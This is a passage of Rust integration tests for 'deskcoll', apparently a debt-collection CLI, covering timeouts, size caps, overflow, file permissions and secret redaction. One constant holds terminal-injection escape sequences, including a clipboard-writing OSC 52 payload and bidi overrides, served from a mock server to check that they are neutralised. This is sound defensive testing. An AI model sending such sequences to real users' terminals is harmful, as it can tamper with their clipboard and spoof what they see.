                        return;
                    }
                }
            });
        }
    });
    format!("http://{addr}")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_drip_server_holds_no_command_past_its_deadline() {
    let base = drip_server().await;
    let home = tempfile::tempdir().unwrap();
    let config = config_file(home.path(), "[http]\ndeadline_secs = 1\n");
    for args in [
        vec!["tasks"],
        vec![
            "--termin-url",
            &format!("{base}/api/v1/bumn/transactions/termin"),
            "termin",
        ],
    ] {
        let o = output(deskcoll(
            home.path(),
            &[&["--config", &config, "--base-url", &base][..], &args].concat(),
        ))
        .await;
        let err = said(&o.stderr);
        assert_eq!(o.status.code(), Some(4), "as a timeout: {err}");
        assert!(
            err.contains("overall deadline (http.deadline_secs)") && err.contains("after 1 s"),
            "{args:?}: {err}"
        );
    }
    // A result sent to it is uncertain (it may be stored), said as the deadline.
    let mut c = deskcoll(
        home.path(),
        &[
            "--config",
            &config,
            "--now",
            "2026-11-27T10:00:00+07:00",
            "--base-url",
            &base,
            "--agent-id",
            "A1",
            "submit",
            "--account",
            "000319280100042",
            "--action",
            "NCT",
            "--result",
            "NCT01",
            "--remark",
            "x",
        ],
    );
    c.env("DESKCOLL_HASH_KEY", "k");
    let o = output(c).await;
    assert_eq!(o.status.code(), Some(4), "{}", said(&o.stderr));
    assert!(said(&o.stdout).contains("deadline") || said(&o.stderr).contains("deadline"));
}

/// A termin page of `rows` transactions, PO numbers from `first`, each with `bill`.
fn termin_page(page: i64, total_page: i64, rows: Vec<serde_json::Value>) -> String {
    serde_json::json!({
        "status": "success",
        "message": "ok",
        "data": {
            "meta": {"page": page, "limit": 10, "total_page": total_page, "total_data": total_page * 10},
            "transaction-termin": rows,
        }
    })
    .to_string()
}

fn transaction(po: &str, status: &str, bill: &str) -> serde_json::Value {
    let bill: serde_json::Value = serde_json::from_str(bill).unwrap();
    serde_json::json!({
        "general": {"purchase_order_number": po, "status_name": status,
                    "entry_date": "2026-11-20T10:00:00.000Z"},
        "payment": {"bill_amount": bill, "price_sub_total": 1000},
        "vendor": {"name": "PT A"},
        "buyer_group": {"name": "B"},
    })
}

const ESCAPES: &str = "\u{1b}]0;owned\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{7}\u{9b}31m\u{202E}\u{2066}\u{200B}\u{2028}";

/// `termin --changes` prints server text and the snapshot's alike: neither reaches the
/// terminal raw, and JSON keeps it escaped, not lost.
#[tokio::test(flavor = "multi_thread")]
async fn termin_changes_print_no_escape() {
    let round = Arc::new(AtomicUsize::new(0));
    let seen = round.clone();
    let app = Router::new().fallback(any(move || {
        let round = seen.clone();
        async move {
            let status = if round.load(Ordering::SeqCst) == 0 {
                format!("Baru{ESCAPES}")
            } else {
                format!("Selesai{ESCAPES}")
            };
            json_reply(termin_page(
                1,
                1,
                vec![
                    transaction(&format!("PO-1{ESCAPES}"), &status, "100"),
                    transaction(
                        &format!("PO-{}{ESCAPES}", 2 + round.load(Ordering::SeqCst)),
                        "Baru",
                        "5",
                    ),
                ],
            ))
        }
    }));
    let base = serve_router(app).await;
    let url = format!("{base}/api/v1/bumn/transactions/termin");
    let home = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| deskcoll(home.path(), &[&["--termin-url", &url][..], args].concat());
    // A look per day: the changes are against the look of an earlier day.
    let o = output(run(&[
        "--now=2026-11-26T10:00:00+07:00",
        "termin",
        "--changes",
    ]))
    .await;
    assert!(o.status.success(), "{}", said(&o.stderr));
    assert_clean("first look", &o.stdout);
    round.store(1, Ordering::SeqCst);
    let o = output(run(&[
        "--now=2026-11-27T10:00:00+07:00",
        "termin",
        "--changes",
    ]))
    .await;
    assert!(o.status.success(), "{}", said(&o.stderr));
    let shown = said(&o.stdout);
    assert_clean("changes", &o.stdout);
    assert_clean("changes' stderr", &o.stderr);
    for c in ['\u{9b}', '\u{200B}', '\u{2028}'] {
        assert!(!shown.contains(c), "{c:?} in {shown:?}");
    }
    assert!(shown.contains("PO-1]0;owned"), "{shown}");
    // The snapshot file's words (the status kept from the first look) are made safe too.
    assert!(shown.contains("Baru]0;owned"), "{shown}");
    round.store(2, Ordering::SeqCst);
    let o = output(run(&[
        "--now=2026-11-28T10:00:00+07:00",
        "termin",
        "--changes",
        "--format",
        "json",
    ]))
    .await;
    let text = said(&o.stdout);
    assert!(
        !text
            .chars()
            .any(|c| (c.is_control() && c != '\n') || deskcoll::domain::text::json_escaped(c)),
        "{text:?}"
    );
    assert!(
        text.contains(r"\u001b") && text.contains(r"\u202e") && text.contains(r"\u009b"),
        "{text}"
    );
    let _: serde_json::Value = serde_json::from_str(&text).unwrap();
}

/// 4 MB of `{}`: every entry skipped and counted, memory kept to what is read.
#[tokio::test(flavor = "multi_thread")]
async fn a_list_of_empty_objects_is_no_task_and_said() {
    let n = 4 * 1024 * 1024 / 3;
    let mut body = String::with_capacity(n * 3 + 16);
    body.push_str("{\"data\":[");
    for i in 0..n {
        if i > 0 {
            body.push(',');
        }
        body.push_str("{}");
    }
    body.push_str("]}");
    let body = Arc::new(body);
    let app = Router::new().route(
        "/api/DailyTask_DeskColl",
        any(move || {
            let body = body.clone();
            async move { json_reply(body.as_str().to_string()) }
        }),
    );
    let base = serve_router(app).await;
    let home = tempfile::tempdir().unwrap();
    let o = output(deskcoll(
        home.path(),
        &["--base-url", &base, "tasks", "--format", "json"],
    ))
    .await;
    assert!(o.status.success(), "{}", said(&o.stderr));
    let grouped = {
        let digits = n.to_string();
        let mut out = String::new();
        for (i, c) in digits.chars().enumerate() {
            if i > 0 && (digits.len() - i) % 3 == 0 {
                out.push(',');
            }
            out.push(c);
        }
        out
    };
    let err = said(&o.stderr);
    assert!(
        err.contains(&format!(
            "{grouped} entries of the task list were not tasks"
        )),
        "{err}"
    );
    assert_eq!(said(&o.stdout).trim(), "[]");
}

/// Says it has a million pages, and answers every page asked with ten rows.
async fn endless_termin() -> String {
    let app = Router::new().fallback(any(
        |q: axum::extract::Query<std::collections::HashMap<String, String>>| async move {
            let page: i64 = q.get("page").and_then(|p| p.parse().ok()).unwrap_or(1);
            let rows = (0..10)
                .map(|i| {
                    transaction(
                        &format!("PO-{page}-{i}-{}", "x".repeat(400)),
                        "Baru",
                        "1000",
                    )
                })
                .collect();
            json_reply(termin_page(page, 1_000_000, rows))
        },
    ));
    serve_router(app).await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_endless_termin_stops_at_the_total_cap() {
    let base = endless_termin().await;
    let url = format!("{base}/api/v1/bumn/transactions/termin");
    let home = tempfile::tempdir().unwrap();
    let config = config_file(home.path(), "[http]\nmax_total_mb = 1\n");
    for args in [
        &["termin", "--group-by", "status"][..],
        &["termin", "--all", "--format", "csv"],
        &["termin", "--all", "--summary"],
    ] {
        let o = output(deskcoll(
            home.path(),
            &[&["--config", &config, "--termin-url", &url][..], args].concat(),
        ))
        .await;
        let err = said(&o.stderr);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {err}");
        assert!(
            err.contains("more than 1 MB in all") && err.contains("http.max_total_mb"),
            "{args:?}: {err}"
        );
    }
}

/// Three records of 5e28: the sum is past the range, said naming the record; the rest shows.
#[tokio::test(flavor = "multi_thread")]
async fn sums_past_the_range_are_an_error_not_a_crash() {
    let app = Router::new().fallback(any(|| async {
        json_reply(termin_page(
            1,
            1,
            vec![
                transaction("PO-A", "Baru", "50000000000000000000000000000"),
                transaction("PO-B", "Baru", "50000000000000000000000000000"),
                transaction("PO-C", "Baru", "50000000000000000000000000000"),
                transaction("PO-D", "Selesai", "1500"),
            ],
        ))
    }));
    let base = serve_router(app).await;
    let url = format!("{base}/api/v1/bumn/transactions/termin");
    let home = tempfile::tempdir().unwrap();
    for args in [
        &["termin", "--summary"][..],
        &["termin", "--group-by", "status"],
        &["termin", "--group-by", "status", "--format", "json"],
        &["termin", "--aging"],
    ] {
        let o = output(deskcoll(
            home.path(),
            &[
                &["--now", "2026-11-27T10:00:00+07:00", "--termin-url", &url][..],
                args,
            ]
            .concat(),
        ))
        .await;
        let out = said(&o.stdout);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", said(&o.stderr));
        assert!(out.contains("past the range at PO-B"), "{args:?}: {out}");
        if !args.contains(&"--aging") {
            assert!(
                out.contains("Rp 1.500") || out.contains("1500"),
                "the other figures still show: {out}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn config_others_can_write_is_refused_and_doctor_fails_it() {
    let home = tempfile::tempdir().unwrap();
    let config = config_file(home.path(), "agent_id = \"A1\"\n");
    deskcoll::files::set_mode(std::path::Path::new(&config), 0o622).unwrap();
    let o = output(deskcoll(
        home.path(),
        &["--config", &config, "config", "show"],
    ))
    .await;
    let err = said(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains("config.toml is mode 0622: others can write it")
            && err.contains("--insecure-config"),
        "{err}"
    );
    let o = output(deskcoll(
        home.path(),
        &["--config", &config, "--insecure-config", "config", "show"],
    ))
    .await;
    assert!(o.status.success(), "{}", said(&o.stderr));
    assert!(
        said(&o.stderr).contains("0622: others can write it"),
        "{}",
        said(&o.stderr)
    );
    assert!(
        !said(&o.stderr).contains("holds secrets"),
        "no secret in it: {}",
        said(&o.stderr)
    );
    let o = output(deskcoll(
        home.path(),
        &["--config", &config, "--insecure-config", "doctor"],
    ))
    .await;
    assert_eq!(o.status.code(), Some(1));
    let report = said(&o.stdout);
    let line = report.lines().find(|l| l.contains("config")).unwrap();
    assert!(
        line.starts_with("fail") && line.contains("config.toml is mode 0622: others can write it"),
        "{report}"
    );
    // The folder alike.
    deskcoll::files::set_mode(std::path::Path::new(&config), 0o600).unwrap();
    let folder = std::path::Path::new(&config).parent().unwrap();
    deskcoll::files::set_mode(folder, 0o777).unwrap();
    let o = output(deskcoll(
        home.path(),
        &["--config", &config, "config", "show"],
    ))
    .await;
    assert_eq!(o.status.code(), Some(1));
    assert!(
        said(&o.stderr).contains("config folder"),
        "{}",
        said(&o.stderr)
    );
    deskcoll::files::set_mode(folder, 0o700).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn serve_refuses_every_interface_with_public_credentials() {
    let home = tempfile::tempdir().unwrap();
    let o = output(deskcoll(home.path(), &["serve", "--addr", "0.0.0.0:0"])).await;
    assert_eq!(o.status.code(), Some(2));
    let err = said(&o.stderr);
    assert!(
        err.contains("0.0.0.0:0") && err.contains("--public"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn exports_to_a_file_are_the_owners_only() {
    let t = common::twin().await;
    let home = tempfile::tempdir().unwrap();
    let file = home.path().join("tasks.csv");
    std::fs::write(&file, "old").unwrap();
    deskcoll::files::set_mode(&file, 0o644).unwrap();
    let mut c = deskcoll(
        home.path(),
        &[
            "--base-url",
            &t.base_url(),
            "tasks",
            "--format",
            "csv",
            "--output",
            file.to_str().unwrap(),
        ],
    );
    c.env("DESKCOLL_USER", deskcoll::twin::SEED_USER)
        .env("DESKCOLL_PASSWORD", deskcoll::twin::SEED_PASSWORD);
    let o = output(c).await;
    assert!(o.status.success(), "{}", said(&o.stderr));
    assert!(o.stdout.is_empty(), "the export went to the file");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(
        text.starts_with("contract_no") || text.contains("contract"),
        "{text}"
    );
    assert!(!text.contains("old"));
}

/// A busy server asking for an hour is waited `http.max_retry_after_secs`, and that is said.
#[tokio::test(flavor = "multi_thread")]
async fn a_long_retry_after_is_capped_and_said() {
    let asked = Arc::new(AtomicUsize::new(0));
    let count = asked.clone();
    let app = Router::new().fallback(any(move || {
        let count = count.clone();
        async move {
            if count.fetch_add(1, Ordering::SeqCst) == 0 {
                (
                    StatusCode::TOO_MANY_REQUESTS,
                    [(header::RETRY_AFTER, "3600")],
                    "busy",
                )
                    .into_response()
            } else {
                json_reply(termin_page(1, 1, vec![transaction("PO-1", "Baru", "5")]))
            }
        }
    }));
    let base = serve_router(app).await;
    let home = tempfile::tempdir().unwrap();
    let config = config_file(home.path(), "[http]\nmax_retry_after_secs = 1\n");
    let o = output(deskcoll(
        home.path(),
        &[
            "--config",
            &config,
            "--termin-url",
            &format!("{base}/api/v1/bumn/transactions/termin"),
            "termin",
            "--group-by",
            "status",
        ],
    ))
    .await;
    let err = said(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(
        err.contains("asked to wait 3600 s: waiting 1 s (http.max_retry_after_secs)"),
        "{err}"
    );
    assert_eq!(asked.load(Ordering::SeqCst), 2);
}

/// The dialer runs as the agent but sees none of deskcoll's variables (its password, hash
/// key and tokens live there).
#[tokio::test]
async fn the_dialer_learns_no_deskcoll_secret() {
    use deskcoll::tui::message::{Action, Dialed, Effect};
    // A variable of this test's own: every DESKCOLL_* one is left out alike.
    // SAFETY: no other thread of this test binary reads or writes this variable.
    #[allow(unsafe_code)]
    unsafe {
        std::env::set_var("DESKCOLL_DIALER_PROBE_SECRET", "s3cret-probe")
    };
    let t = common::twin().await;
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let mut rt = deskcoll::tui::Runtime::quiet(deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        common::client_for(&t),
        deskcoll::clock::Clock::at(common::fixed_now()),
    ));
    let got = dir.path().join("env");
    let done = dir.path().join("done");
    rt.dial_command = Some(format!(
        "sh -c 'env > {}; touch {}' {{phone}}",
        got.display(),
        done.display()
    ));
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    let effect = Effect::Dial {
        account_no: "000319280100042".into(),
        phone: "081234567890".into(),
        override_reason: None,
    };
    let actions = deskcoll::tui::execute(effect, &rt, &tx).await;
    assert!(matches!(
        &actions[0],
        Action::Dialed {
            outcome: Ok(Dialed::Launched { .. }),
            ..
        }
    ));
    let mut waited = 0;
    while !done.exists() && waited < 250 {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        waited += 1;
    }
    let env = std::fs::read_to_string(&got).unwrap();
    assert!(
        env.contains("PATH="),
        "the rest of the environment stays: {env}"
    );
    assert!(
        !env.lines().any(|l| l.starts_with("DESKCOLL_")) && !env.contains("s3cret-probe"),
        "{env}"
    );
}

/// A URL too malformed to parse is still shown without its password, wherever it is said.
#[tokio::test(flavor = "multi_thread")]
async fn a_malformed_url_never_shows_its_password() {
    let home = tempfile::tempdir().unwrap();
    let config = config_file(
        home.path(),
        "[collection]\nbase_url = \"https://svc:pw-s3cret@host:notaport/x?token=tok-s3cret\"\n",
    );
    for args in [&["config", "show"][..], &["doctor"], &["tasks"]] {
        let o = output(deskcoll(
            home.path(),
            &[&["--config", &config][..], args].concat(),
        ))
        .await;
        let all = format!("{}{}", said(&o.stdout), said(&o.stderr));
        assert!(
            !all.contains("pw-s3cret") && !all.contains("tok-s3cret"),
            "{args:?}: {all}"
        );
        assert!(all.contains("svc:***@host:notaport"), "{args:?}: {all}");
    }
}
